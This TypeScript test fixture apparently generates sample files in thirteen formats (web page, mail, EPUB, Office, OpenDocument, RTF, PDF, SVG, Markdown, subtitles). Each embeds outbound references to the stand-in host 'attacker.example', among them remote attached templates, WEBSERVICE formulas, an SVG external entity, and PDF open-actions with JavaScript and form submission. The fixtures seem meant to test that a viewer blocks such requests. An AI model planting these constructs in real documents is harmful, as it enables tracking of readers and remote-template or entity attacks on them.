import { strToU8, zipSync } from 'fflate';
import { reachingMhtml, reachingPage, redPicture } from './capturedPages';

const far = 'https://attacker.example';

/** A file that asks for something outside wherever its format lets it, with words of its own to be read. */
export interface ReachingDocument {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** The sentence that has to be there once it is read. */
  readonly words: string;
}

type Maker = (words: string) => Uint8Array;

const makers: Readonly<Record<string, Maker>> = {
  'page.html': (words) => strToU8(pageWith(words)),
  'capture.mhtml': (words) =>
    strToU8(reachingMhtml('A capture that reaches out').replace('The first words of the page.', words)),
  'mail.eml': (words) => strToU8(mail(words)),
  'book.epub': book,
  'letter.docx': letter,
  'letter.odt': (words) => openDocument('text', `<text:p>${words} ${farObjects('text')}</text:p>`),
  'sheet.ods': (words) =>
    openDocument(
      'spreadsheet',
      `<table:table table:name="Sheet"><table:table-row><table:table-cell office:value-type="string"><text:p>${words}</text:p></table:table-cell><table:table-cell table:formula="of:=WEBSERVICE(&quot;${far}/ods&quot;)" office:value-type="string"><text:p>away</text:p></table:table-cell></table:table-row><table:shapes>${farObjects('sheet')}</table:shapes></table:table>`,
    ),
  'sheet.xlsx': sheet,
  'letter.rtf': (words) =>
    strToU8(
      `{\\rtf1\\ansi{\\*\\template ${far}/template.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${far}/rtf.png" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst HYPERLINK "${far}/rtf"}{\\fldrslt a link}} ${words}\\par}`,
    ),
  'notes.md': (words) =>
    strToU8(
      `# Notes that reach out\n\n${words}\n\n![far](${far}/md.png)\n\n<img src="${far}/md2.png">\n\n[a link](${far}/md)\n`,
    ),
  'talk.vtt': (words) =>
    strToU8(
      `WEBVTT\n\nSTYLE\n::cue { background: url(${far}/cue.png) }\n\n00:00:01.000 --> 00:00:02.000\n<c.x>${words}</c>\n`,
    ),
  'letter.pdf': pdf,
  'drawing.svg': (words) =>
    strToU8(
      `<?xml version="1.0"?><?xml-stylesheet href="${far}/svg.css"?><!DOCTYPE svg [<!ENTITY far SYSTEM "${far}/entity">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${far}/svg.png" width="9" height="9"/><use href="${far}/svg.svg#a"/><script href="${far}/svg.js"/><text>${words}</text></svg>`,
    ),
};

/** One for each kind of file that can name an address. */
export function reachingDocuments(): readonly ReachingDocument[] {
  return Object.entries(makers).map(([name, make]) => {
    const words = `The honest words of ${name.replace('.', ' in ')} are here.`;
    return { name, words, bytes: make(words) };
  });
}

function pageWith(words: string): string {
  return reachingPage('A page that reaches out', `${far}/first.png`).replace(
    'The first words of the page.',
    words,
  );
}

function mail(words: string): string {
  const lines = [
    'MIME-Version: 1.0',
    'Date: Sat, 12 Jul 2031 10:00:00 +0000',
    'From: Desk <desk@example.org>',
    'To: Analyst <analyst@example.org>',
    'Subject: A mail that reaches out',
    'Disposition-Notification-To: desk@attacker.example',
    `List-Unsubscribe: <${far}/unsubscribe>`,
    'Content-Type: multipart/related; boundary="part"',
    '',
    '--part',
    'Content-Type: text/html; charset=utf-8',
    '',
    pageWith(words),
    '--part',
    `Content-Type: message/external-body; access-type=URL; URL="${far}/body"`,
    '',
    'Content-Type: text/plain',
    '',
    '--part--',
    '',
  ];
  return lines.join('\r\n');
}

function book(words: string): Uint8Array {
  const chapter = `<?xml version="1.0"?><!DOCTYPE html SYSTEM "${far}/xhtml.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>One</title><link rel="stylesheet" href="${far}/book.css"/><style>@import "${far}/b.css";</style><script src="${far}/book.js"></script></head><body><h1>One</h1><p>${words}</p><img src="${far}/book.png" alt="far"/><object data="${far}/book.svg"></object></body></html>`;
  return zipSync({
    mimetype: [strToU8('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': strToU8(
      '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    ),
    'book.opf': strToU8(
      `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">b</dc:identifier><dc:title>A book that reaches out</dc:title><dc:language>en</dc:language><link rel="record" href="${far}/record.xml"/></metadata><manifest><item id="one" href="one.xhtml" media-type="application/xhtml+xml" properties="remote-resources"/><item id="far" href="${far}/sound.mp3" media-type="audio/mpeg"/></manifest><spine><itemref idref="one"/></spine></package>`,
    ),
    'one.xhtml': strToU8(chapter),
  });
}

const relationships = (...rows: string[]) =>
  strToU8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join('')}</Relationships>`,
  );
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationship = (id: string, type: string, target: string, isFar = false) =>
  `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${isFar ? ' TargetMode="External"' : ''}/>`;
const contentTypes = (main: string, type: string) =>
  strToU8(
    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`,
  );

function letter(words: string): Uint8Array {
  const picture = `<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr id="1" name="far" descr="far"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rFar"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`;
  return zipSync({
    '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document'),
    '_rels/.rels': relationships(relationship('r1', 'officeDocument', 'word/document.xml')),
    'word/_rels/document.xml.rels': relationships(
      relationship('rFar', 'image', `${far}/docx.png`, true),
      relationship('rSub', 'subDocument', `${far}/part.docx`, true),
      relationship('rSet', 'settings', 'settings.xml'),
    ),
    'word/settings.xml': strToU8(
      `<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}"><w:attachedTemplate r:id="rT"/></w:settings>`,
    ),
    'word/_rels/settings.xml.rels': relationships(
      relationship('rT', 'attachedTemplate', `${far}/template.dotm`, true),
    ),
    'word/document.xml': strToU8(
      `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${office}"><w:body><w:p><w:r><w:t>${words}</w:t></w:r></w:p><w:p><w:r>${picture}</w:r></w:p><w:subDoc r:id="rSub"/><w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;${far}/text.docx&quot; "><w:r><w:t>away</w:t></w:r></w:fldSimple></w:p></w:body></w:document>`,
    ),
  });
}

function sheet(words: string): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return zipSync({
    '[Content_Types].xml': contentTypes('xl/workbook.xml', 'spreadsheetml.sheet'),
    '_rels/.rels': relationships(relationship('r1', 'officeDocument', 'xl/workbook.xml')),
    'xl/workbook.xml': strToU8(
      `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="Sheet" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': relationships(
      relationship('r1', 'worksheet', 'worksheets/sheet1.xml'),
      relationship('r2', 'externalLink', 'externalLinks/externalLink1.xml'),
    ),
    'xl/externalLinks/externalLink1.xml': strToU8(
      `<?xml version="1.0"?><externalLink xmlns="${main}"><externalBook xmlns:r="${office}" r:id="r1"/></externalLink>`,
    ),
    'xl/externalLinks/_rels/externalLink1.xml.rels': relationships(
      relationship('r1', 'externalLinkPath', `${far}/other.xlsx`, true),
    ),
    'xl/connections.xml': strToU8(
      `<?xml version="1.0"?><connections xmlns="${main}"><connection id="1" type="4" refreshOnLoad="1"><webPr url="${far}/query"/></connection></connections>`,
    ),
    'xl/worksheets/sheet1.xml': strToU8(
      `<?xml version="1.0"?><worksheet xmlns="${main}" xmlns:r="${office}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${words}</t></is></c><c r="B1" t="str"><f>WEBSERVICE("${far}/formula")</f><v>away</v></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="r3"/></hyperlinks><drawing r:id="r4"/></worksheet>`,
    ),
    'xl/worksheets/_rels/sheet1.xml.rels': relationships(
      relationship('r3', 'hyperlink', `${far}/cell`, true),
      relationship('r4', 'image', `${far}/xlsx.png`, true),
    ),
  });
}

const farObjects = (place: string) =>
  `<draw:frame draw:name="far"><draw:image xlink:href="${far}/${place}.png" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame><draw:frame><draw:object xlink:href="${far}/${place}.odt" xlink:actuate="onLoad"/></draw:frame>`;

function openDocument(kind: 'text' | 'spreadsheet', body: string): Uint8Array {
  const urn = 'urn:oasis:names:tc:opendocument:xmlns';
  const names = `xmlns:office="${urn}:office:1.0" xmlns:text="${urn}:text:1.0" xmlns:table="${urn}:table:1.0" xmlns:draw="${urn}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"`;
  return zipSync({
    mimetype: [strToU8(`application/vnd.oasis.opendocument.${kind}`), { level: 0 }],
    'content.xml': strToU8(
      `<?xml version="1.0"?><office:document-content ${names} office:version="1.3"><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    ),
    'META-INF/manifest.xml': strToU8(
      `<?xml version="1.0"?><manifest:manifest xmlns:manifest="${urn}:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${kind}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
    ),
    'Pictures/near.png': redPicture(),
  });
}

/** One page that opens an address, starts a script and embeds what lies elsewhere. */
function pdf(words: string): Uint8Array {
  const content = `BT /F1 12 Tf 72 700 Td (${words}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${far}/open) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\("${far}/js"\\)) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> /XObject << /X 7 0 R >> >> /Contents 5 0 R /Annots [6 0 R] /AA << /O << /S /SubmitForm /F (${far}/form) >> >> >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [72 690 300 715] /A << /S /URI /URI (${far}/link) >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${far}/pdf.png) >> /Length 0 >>\nstream\n\nendstream`,
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map((body, index) => {
    const place = file.length;
    file += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return place;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return strToU8(file, true);
}
